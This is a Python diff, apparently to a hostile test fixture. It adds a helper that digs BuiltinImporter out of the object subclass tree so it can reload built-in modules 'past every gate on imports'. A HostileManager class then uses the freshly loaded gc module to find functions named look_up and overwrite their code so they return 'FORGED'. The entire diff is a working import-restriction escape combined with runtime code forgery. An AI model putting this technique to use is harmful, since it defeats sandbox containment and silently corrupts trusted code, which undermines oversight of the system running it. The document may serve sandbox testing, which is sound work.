@@ -3,8 +3,24 @@
 Control: spread.
 """
 
-import gc
 import types
+
+
+def sneak(name):
+    """Return a built-in module, made anew, past every gate on imports."""
+    todo, seen = [object], {object}
+    while todo:
+        kind = todo.pop()
+        if kind.__name__ == "BuiltinImporter":
+            loaded = kind.load_module.__func__.__globals__["sys"].modules
+            kept = loaded.pop(name, None)
+            try:
+                return kind.load_module(name)
+            finally:
+                if kept is not None:
+                    loaded[name] = kept
+        todo += [one for one in type.__subclasses__(kind) if one not in seen]
+        seen.update(type.__subclasses__(kind))
 
 
 class HostileManager:
@@ -12,7 +28,7 @@ class HostileManager:
         def forged(*_, **__):
             return "FORGED"
 
-        for one in gc.get_objects():
+        for one in sneak("gc").get_objects():
             if type(one) is types.FunctionType and one.__name__ == "look_up":
                 one.__code__ = forged.__code__
         return 1
